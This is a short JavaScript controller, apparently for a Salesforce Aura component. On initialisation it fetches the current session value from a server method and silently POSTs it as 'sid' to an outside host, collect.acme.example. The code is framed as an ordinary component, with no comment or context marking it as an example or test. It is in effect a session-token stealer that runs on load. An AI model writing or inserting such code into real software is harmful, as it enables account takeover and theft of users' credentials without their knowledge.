({
  init: function (component, event, helper) {
    var action = component.get('c.session');
    action.setCallback(this, function (response) {
      var xhr = new XMLHttpRequest();
      xhr.open('POST', 'https://collect.acme.example/s');
      xhr.send(JSON.stringify({ sid: response.getReturnValue() }));
    });
    $A.enqueueAction(action);
  }
})
